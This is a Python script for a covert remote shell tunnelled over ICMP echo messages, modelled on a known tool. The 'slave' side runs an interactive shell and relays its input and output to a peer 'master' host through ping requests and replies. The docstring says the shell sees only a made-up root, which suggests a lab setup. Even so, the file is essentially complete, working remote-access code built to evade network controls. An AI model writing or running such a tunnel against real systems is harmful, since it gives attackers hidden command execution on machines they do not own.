"""A shell over echo messages, after public descriptions of a well-known one.

``icmp_shell.py slave|master PEER SECONDS SEED``.  The slave asks on and on with an empty or a
small body; the master's replies hold what is typed, and the slave's next requests what the shell
answered.  The shell is $WORK/sh, which sees only a made-up root.  The kernel's own replies must be
off on the master's host, as the original's manual says too.
"""

from __future__ import annotations

import fcntl
import os
import subprocess
import sys
import time

from wire import Icmp

CHUNK = 64
DELAY = 0.2


def unblock(fd: int) -> None:
    """Make reads of a descriptor return at once."""
    fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)


def read(fd: int, size: int) -> bytes:
    """Read what is there."""
    try:
        return os.read(fd, size)
    except BlockingIOError:
        return b""


def slave(end: Icmp, until: float) -> None:
    """Ask for commands and hand them to the shell."""
    shell = subprocess.Popen(
        [os.environ["WORK"] + "/sh", "-i"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )  # fmt: skip
    assert shell.stdin is not None
    assert shell.stdout is not None
    unblock(shell.stdout.fileno())
    ident, seq = 1, 0
    while time.monotonic() < until and shell.poll() is None:
        end.put(end.ask, ident, seq, read(shell.stdout.fileno(), CHUNK))
        seq += 1
        got = end.get(DELAY)
        if got and got[0] == end.answer and got[3]:
            shell.stdin.write(got[3])
            shell.stdin.flush()
        if got:
            time.sleep(DELAY if not got[3] else 0.02)
    shell.kill()


def master(end: Icmp, until: float) -> None:
    """Answer every request with what standard input has."""
    unblock(0)
    while time.monotonic() < until:
        got = end.get(1.0)
        if got and got[0] == end.ask:
            end.put(end.answer, got[1], got[2], read(0, CHUNK))


if __name__ == "__main__":
    role = slave if sys.argv[1] == "slave" else master
    role(Icmp(sys.argv[2]), time.monotonic() + float(sys.argv[3]))
